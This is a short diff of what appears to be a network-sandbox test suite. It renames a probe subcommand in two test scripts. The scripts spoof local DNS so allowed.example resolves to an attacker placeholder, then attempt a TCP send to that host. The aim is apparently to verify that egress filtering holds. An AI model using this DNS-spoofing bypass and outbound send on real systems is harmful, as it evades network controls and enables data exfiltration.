@@ -110,7 +110,7 @@ kernelTest(
         `unshare -rn sh -c 'ip link set lo up && ` +
         `ip addr add 127.0.0.53/32 dev lo && ` +
         `python3 ${PROBE} selfanswer 127.0.0.53 allowed.example ${ATTACKER}'`,
-        `python3 ${PROBE} sendtcp ${ATTACKER} ${ATTACKER_PORT}`,
+        `python3 ${PROBE} tcpsend ${ATTACKER} ${ATTACKER_PORT}`,
       ].join("; ");
       const step = await h.run(netns.exec([
         "setpriv",
@@ -192,7 +192,7 @@ kernelTest(
       async (h, netns, sinkLog) => {
         const script = [
           `python3 ${PROBE} selfanswer 127.0.0.54 allowed.example ${ATTACKER}`,
-          `python3 ${PROBE} sendtcp ${ATTACKER} ${ATTACKER_PORT}`,
+          `python3 ${PROBE} tcpsend ${ATTACKER} ${ATTACKER_PORT}`,
         ].join("; ");
         const step = await h.run(netns.exec(["sh", "-c", script]));
         assert.deepEqual(
